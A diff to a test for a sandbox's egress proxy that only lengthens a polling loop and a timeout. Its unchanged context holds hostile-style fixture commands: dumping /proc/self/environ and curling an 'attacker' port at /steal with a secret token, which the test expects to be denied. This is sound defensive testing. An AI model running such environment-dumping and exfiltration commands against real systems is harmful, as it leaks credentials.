@@ -96,7 +96,7 @@ maybe('egress of background runs started from the CLI (served by the detached su
     const command = [
       'cat /proc/self/environ > bg.env',
       // The CLI has exited by now (it printed the id and returned): only the supervisor serves the proxy.
-      'for i in $(seq 200); do [ -e go ] && break; sleep 0.05; done',
+      'for i in $(seq 600); do [ -e go ] && break; sleep 0.05; done',
       curl(allowed.port, '/bg', '-H "X-Token: <<secret:gh>>"'),
       curl(attacker.port, '/steal', '-H "X-Token: <<secret:gh>>"'),
       'echo done > bg-done',
@@ -126,6 +126,6 @@ maybe('egress of background runs started from the CLI (served by the detached su
     expect(show.stdout).toContain(`allowed 127.0.0.1:${allowed.port} via http, GET 200, rule allow:127.0.0.1:${allowed.port}, injected secret:gh`);
     expect(show.stdout).toContain(`denied 127.0.0.1:${attacker.port} via http`);
     expect(readFileSync(join(tmp.dir, 'home', 'audit.log'), 'utf8')).not.toContain(VALUE);
-    expect(await waitFor(() => readdirSync(runtime).length === 0, 10_000, 50)).toBe(true);
+    expect(await waitFor(() => readdirSync(runtime).length === 0, 30_000, 50)).toBe(true);
   });
 });
